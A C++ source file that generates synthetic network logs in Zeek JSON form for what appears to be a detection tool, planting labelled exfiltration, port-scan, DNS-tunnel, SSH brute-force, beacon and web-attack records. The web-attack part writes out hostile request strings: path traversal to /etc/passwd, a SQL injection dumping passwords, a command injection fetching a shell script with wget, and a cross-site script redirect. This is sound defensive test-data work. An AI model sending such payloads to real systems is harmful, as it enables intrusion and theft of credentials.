#include "client/ingest/sample_traffic.h"

#include <algorithm>
#include <array>
#include <utility>

#include "absl/strings/str_cat.h"
#include "absl/strings/str_format.h"
#include "ledger/base/random.h"

namespace vigil::client {
namespace {

constexpr uint32_t kWorkstations = 60;
constexpr uint32_t kUsualSites = 40;
constexpr int64_t kMicrosPerSecond = 1'000'000;

struct Line {
  int64_t micros;
  std::string json;
};

// Numbers of everyday shape: most small, some large, without floating point.
class Shapes {
 public:
  explicit Shapes(uint64_t seed) : random_(seed) {}

  uint64_t Below(uint64_t bound) { return random_.Below(bound); }
  bool Chance(uint32_t permille) { return random_.Chance(permille); }
  uint64_t Between(uint64_t low, uint64_t high) { return low + random_.Below(high - low + 1); }
  // Spread evenly over the powers of two between `low` and `high`.
  uint64_t Skewed(uint64_t low, uint64_t high) {
    uint64_t top = low;
    while (top < high && random_.Chance(700)) top *= 2;
    return Between(low, std::min(std::max(top, low + 1), high));
  }
  // Popular indexes come up more often: the smaller of two draws.
  uint64_t Popular(uint64_t bound) { return std::min(random_.Below(bound), random_.Below(bound)); }
  std::string Letters(size_t size, absl::string_view alphabet) {
    std::string text;
    for (size_t i = 0; i < size; ++i) text.push_back(alphabet[random_.Below(alphabet.size())]);
    return text;
  }

 private:
  SplitMix64 random_;
};

struct Site {
  std::string name;
  std::string ip;
};

class TrafficMaker {
 public:
  explicit TrafficMaker(const SampleOptions& options) : options_(options), shapes_(options.seed) {
    static constexpr std::array<absl::string_view, 8> kWords = {"mail", "news", "shop", "cloud",
                                                                "docs", "bank", "maps", "video"};
    for (uint32_t i = 0; i < kUsualSites; ++i) {
      sites_.push_back({.name = absl::StrCat(i % 3 == 0   ? "www."
                                             : i % 3 == 1 ? "api."
                                                          : "cdn.",
                                             kWords[i % kWords.size()], i, ".example"),
                        .ip = absl::StrCat("198.51.100.", i + 1)});
    }
  }

  SampleTraffic Make() {
    for (uint32_t made = 0; made < options_.events;) {
      const int64_t at = RandomTime();
      const uint64_t kind = shapes_.Below(10);
      if (kind < 6) {
        made += Browse(at);
      } else if (kind < 8) {
        made += Lookup(at);
      } else {
        made += Background(at);
      }
    }
    if (options_.attacks) PlantAttacks();
    SampleTraffic traffic;
    traffic.zeek = Join(&lines_);
    traffic.planted = std::move(planted_);
    return traffic;
  }

 private:
  static constexpr absl::string_view kAlphanumeric = "abcdefghijklmnopqrstuvwxyz0123456789";

  int64_t RandomTime() {
    return options_.start_unix_millis * 1000 +
           static_cast<int64_t>(
               shapes_.Below(static_cast<uint64_t>(options_.span_seconds) * kMicrosPerSecond));
  }
  std::string Workstation(uint64_t i) const {
    return absl::StrCat("10.1.", i / 30, ".", 20 + i % 30);
  }
  std::string Uid() {
    return absl::StrCat(
        "C", shapes_.Letters(16, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"));
  }
  static std::string Time(int64_t micros) {
    return absl::StrFormat("%d.%06d", micros / kMicrosPerSecond, micros % kMicrosPerSecond);
  }

  struct Flow {
    std::string uid;
    std::string src;
    std::string dst;
    uint64_t dst_port = 0;
    std::string proto = "tcp";
    std::string service;
    uint64_t duration_micros = 0;
    uint64_t sent = 0;
    uint64_t received = 0;
    std::string state = "SF";
    std::string history = "ShADadFf";
    uint64_t src_port = 0;
  };

  void AddConn(int64_t at, Flow flow) {
    if (flow.src_port == 0) flow.src_port = shapes_.Between(32768, 60999);
    const bool answered = flow.state != "S0" && flow.state != "REJ";
    const uint64_t sent_packets = 2 + flow.sent / 900;
    const uint64_t received_packets = answered ? 2 + flow.received / 1200 : 0;
    lines_.push_back(
        {at,
         absl::StrFormat(
             R"({"_path":"conn","ts":%s,"uid":"%s","id.orig_h":"%s","id.orig_p":%d,"id.resp_h":"%s","id.resp_p":%d,"proto":"%s",%s"duration":%d.%06d,"orig_bytes":%d,"resp_bytes":%d,"conn_state":"%s","local_orig":true,"missed_bytes":0,"history":"%s","orig_pkts":%d,"orig_ip_bytes":%d,"resp_pkts":%d,"resp_ip_bytes":%d})",
             Time(at), flow.uid, flow.src, flow.src_port, flow.dst, flow.dst_port, flow.proto,
             flow.service.empty() ? "" : absl::StrCat("\"service\":\"", flow.service, "\","),
             flow.duration_micros / kMicrosPerSecond, flow.duration_micros % kMicrosPerSecond,
             flow.sent, flow.received, flow.state, flow.history, sent_packets,
             flow.sent + 40 * sent_packets, received_packets,
             flow.received + 40 * received_packets)});
  }

  void AddDns(int64_t at, const std::string& uid, const std::string& src, const std::string& query,
              absl::string_view type, uint32_t type_number, const std::string& answer) {
    const bool found = !answer.empty();
    lines_.push_back(
        {at,
         absl::StrFormat(
             R"({"_path":"dns","ts":%s,"uid":"%s","id.orig_h":"%s","id.orig_p":%d,"id.resp_h":"10.1.0.2","id.resp_p":53,"proto":"udp","trans_id":%d,"rtt":0.%06d,"query":"%s","qclass":1,"qclass_name":"C_INTERNET","qtype":%d,"qtype_name":"%s","rcode":%d,"rcode_name":"%s","AA":false,"TC":false,"RD":true,"RA":true,"Z":0%s,"rejected":false})",
             Time(at), uid, src, shapes_.Between(32768, 60999), shapes_.Below(65536),
             shapes_.Skewed(400, 90'000), query, type_number, type, found ? 0 : 3,
             found ? "NOERROR" : "NXDOMAIN",
             found ? absl::StrCat(",\"answers\":[\"", answer, "\"],\"TTLs\":[300.0]") : "")});
  }

  void AddHttp(int64_t at, const std::string& uid, const std::string& src, const Site& site,
               absl::string_view method, const std::string& uri, absl::string_view agent,
               uint32_t status, uint64_t sent, uint64_t received) {
    lines_.push_back(
        {at,
         absl::StrFormat(
             R"({"_path":"http","ts":%s,"uid":"%s","id.orig_h":"%s","id.orig_p":%d,"id.resp_h":"%s","id.resp_p":80,"trans_depth":1,"method":"%s","host":"%s","uri":"%s","version":"1.1","user_agent":"%s","request_body_len":%d,"response_body_len":%d,"status_code":%d,"status_msg":"%s"})",
             Time(at), uid, src, shapes_.Between(32768, 60999), site.ip, method, site.name, uri,
             agent, sent, received, status, status == 200 ? "OK" : "Other")});
  }

  // A page: one look-up, a TLS or plain connection, sometimes the HTTP request itself.
  uint32_t Browse(int64_t at) {
    static constexpr std::array<absl::string_view, 3> kAgents = {
        "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0",
        "Mozilla/5.0 (Windows NT 10.0) Chrome/126.0", "Mozilla/5.0 (Macintosh) Safari/17.5"};
    const std::string src = Workstation(shapes_.Popular(kWorkstations));
    const Site& site = sites_[shapes_.Popular(sites_.size())];
    AddDns(at, Uid(), src, site.name, "A", 1, site.ip);
    const bool tls = shapes_.Chance(750);
    const std::string uid = Uid();
    const uint64_t received = shapes_.Skewed(800, 900'000);
    const uint64_t sent = shapes_.Skewed(300, 9'000);
    AddConn(at + 20'000, {.uid = uid,
                          .src = src,
                          .dst = site.ip,
                          .dst_port = tls ? 443u : 80u,
                          .proto = "tcp",
                          .service = tls ? "ssl" : "http",
                          .duration_micros = shapes_.Skewed(30'000, 60'000'000),
                          .sent = sent,
                          .received = received,
                          .state = "SF",
                          .history = "ShADadFf",
                          .src_port = 0});
    if (tls) return 2;
    static constexpr std::array<absl::string_view, 5> kPages = {"/", "/index.html", "/news",
                                                                "/static/app.js", "/img/logo.png"};
    std::string uri(kPages[shapes_.Below(kPages.size())]);
    if (shapes_.Chance(300)) absl::StrAppend(&uri, "?id=", shapes_.Below(500));
    AddHttp(at + 25'000, uid, src, site, shapes_.Chance(900) ? "GET" : "POST", uri,
            kAgents[shapes_.Popular(kAgents.size())], shapes_.Chance(950) ? 200 : 304,
            shapes_.Chance(900) ? 0 : sent / 2, received / 2);
    return 3;
  }

  uint32_t Lookup(int64_t at) {
    const std::string src = Workstation(shapes_.Popular(kWorkstations));
    const Site& site = sites_[shapes_.Popular(sites_.size())];
    if (shapes_.Chance(60)) {
      AddDns(at, Uid(), src, absl::StrCat("printer-", shapes_.Below(9), ".corp.example"), "A", 1,
             "");
    } else {
      const bool six = shapes_.Chance(300);
      AddDns(at, Uid(), src, site.name, six ? "AAAA" : "A", six ? 28 : 1,
             six ? "2001:db8::1" : site.ip);
    }
    return 1;
  }

  // Time, mail, file shares, a few administrators on SSH.
  uint32_t Background(int64_t at) {
    const std::string src = Workstation(shapes_.Popular(kWorkstations));
    Flow flow{.uid = Uid(),
              .src = src,
              .dst = "10.1.0.5",
              .dst_port = 445,
              .proto = "tcp",
              .service = "smb",
              .duration_micros = shapes_.Skewed(100'000, 90'000'000),
              .sent = shapes_.Skewed(500, 200'000),
              .received = shapes_.Skewed(500, 400'000),
              .state = "SF",
              .history = "ShADadFf",
              .src_port = 0};
    const uint64_t kind = shapes_.Below(10);
    if (kind < 3) {
      flow.dst = "10.1.0.3";
      flow.dst_port = 123;
      flow.src_port = 123;
      flow.proto = "udp";
      flow.service = "ntp";
      flow.sent = flow.received = 48;
      flow.duration_micros = shapes_.Skewed(500, 40'000);
      flow.history = "Dd";
    } else if (kind < 5) {
      flow.dst = "10.1.0.7";
      flow.dst_port = 993;
      flow.service = "ssl";
    } else if (kind == 5) {
      flow.src = Workstation(shapes_.Below(3));
      flow.dst = absl::StrCat("10.1.0.", shapes_.Between(10, 14));
      flow.dst_port = 22;
      flow.service = "ssh";
      flow.duration_micros = shapes_.Skewed(2'000'000, 900'000'000);
    }
    AddConn(at, flow);
    return 1;
  }

  void Plant(absl::string_view log, const std::string& uid, absl::string_view attack) {
    planted_.push_back({.log = std::string(log), .uid = uid, .attack = std::string(attack)});
  }

  void PlantAttacks() {
    PlantExfiltration();
    PlantScan();
    PlantTunnel();
    PlantBruteForce();
    PlantWebAttack();
    PlantBeacon();
  }

  // Gigabytes to an address nobody talks to, on an odd port.
  void PlantExfiltration() {
    for (int i = 0; i < 3; ++i) {
      const std::string uid = Uid();
      AddConn(RandomTime(), {.uid = uid,
                             .src = Workstation(17),
                             .dst = "203.0.113.66",
                             .dst_port = 8443,
                             .proto = "tcp",
                             .service = "",
                             .duration_micros = 3'400'000'000,
                             .sent = shapes_.Between(2'000'000'000, 6'000'000'000),
                             .received = 41'000,
                             .state = "SF",
                             .history = "ShADadtFf",
                             .src_port = 0});
      Plant("conn", uid, "exfiltration");
    }
  }

  // One host knocks at many ports of a server.
  void PlantScan() {
    const int64_t at = RandomTime();
    for (int i = 0; i < 40; ++i) {
      const std::string uid = Uid();
      AddConn(at + i * 9'000, {.uid = uid,
                               .src = Workstation(33),
                               .dst = "10.1.0.12",
                               .dst_port = shapes_.Between(1, 10'000),
                               .proto = "tcp",
                               .service = "",
                               .duration_micros = shapes_.Below(40),
                               .sent = 0,
                               .received = 0,
                               .state = i % 3 == 0 ? "S0" : "REJ",
                               .history = i % 3 == 0 ? "S" : "Sr",
                               .src_port = 0});
      Plant("conn", uid, "port scan");
    }
  }

  // Data in the labels of TXT queries.
  void PlantTunnel() {
    const int64_t at = RandomTime();
    for (int i = 0; i < 12; ++i) {
      const std::string uid = Uid();
      const std::string query =
          absl::StrCat(shapes_.Letters(58, kAlphanumeric), ".", shapes_.Letters(50, kAlphanumeric),
                       ".t.tunnel-c2.example");
      AddDns(at + i * 700'000, uid, Workstation(8), query, "TXT", 16,
             absl::StrCat("TXT 180 ", shapes_.Letters(150, kAlphanumeric)));
      Plant("dns", uid, "DNS tunnel");
    }
  }

  void PlantBruteForce() {
    const int64_t at = RandomTime();
    for (int i = 0; i < 25; ++i) {
      const std::string uid = Uid();
      AddConn(at + i * 400'000, {.uid = uid,
                                 .src = "203.0.113.9",
                                 .dst = "10.1.0.11",
                                 .dst_port = 22,
                                 .proto = "tcp",
                                 .service = "ssh",
                                 .duration_micros = shapes_.Between(900'000, 1'900'000),
                                 .sent = shapes_.Between(1'400, 1'700),
                                 .received = shapes_.Between(1'900, 2'100),
                                 .state = "RSTO",
                                 .history = "ShADadR",
                                 .src_port = 0});
      Plant("conn", uid, "SSH brute force");
    }
  }

  void PlantWebAttack() {
    static constexpr std::array<absl::string_view, 4> kUris = {
        "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd",
        "/item.php?id=1%27%20UNION%20SELECT%20user,password%20FROM%20users--%20-",
        "/wp-admin/setup-config.php?step=1&cmd=%3Bwget%20http%3A%2F%2F203.0.113.80%2Fx.sh",
        "/search?q=%3Cscript%3Edocument.location%3D%22http%3A%2F%2F203.0.113.80%22%3C%2Fscript%3E"};
    for (absl::string_view uri : kUris) {
      const std::string uid = Uid();
      AddHttp(RandomTime(), uid, "203.0.113.44", sites_[3], "GET", std::string(uri),
              "sqlmap/1.8 (https://sqlmap.org)", 500, 0, 512);
      Plant("http", uid, "web attack");
    }
  }

  // The same small exchange with an unusual port again and again.
  void PlantBeacon() {
    const int64_t at = RandomTime();
    for (int i = 0; i < 10; ++i) {
      const std::string uid = Uid();
      AddConn(at + i * 60 * kMicrosPerSecond, {.uid = uid,
                                               .src = Workstation(41),
                                               .dst = "203.0.113.200",
                                               .dst_port = 4444,
                                               .proto = "tcp",
                                               .service = "",
                                               .duration_micros = 812'000,
                                               .sent = 244,
                                               .received = 131,
                                               .state = "SF",
                                               .history = "ShADadFf",
                                               .src_port = 0});
      Plant("conn", uid, "C2 beacon");
    }
  }

  static std::string Join(std::vector<Line>* lines) {
    std::stable_sort(lines->begin(), lines->end(),
                     [](const Line& a, const Line& b) { return a.micros < b.micros; });
    std::string text;
    for (const Line& line : *lines) absl::StrAppend(&text, line.json, "\n");
    return text;
  }

  const SampleOptions options_;
  Shapes shapes_;
  std::vector<Site> sites_;
  std::vector<Line> lines_;
  std::vector<PlantedLine> planted_;
};

}  // namespace

SampleTraffic MakeSampleTraffic(const SampleOptions& options) {
  return TrafficMaker(options).Make();
}

}  // namespace vigil::client
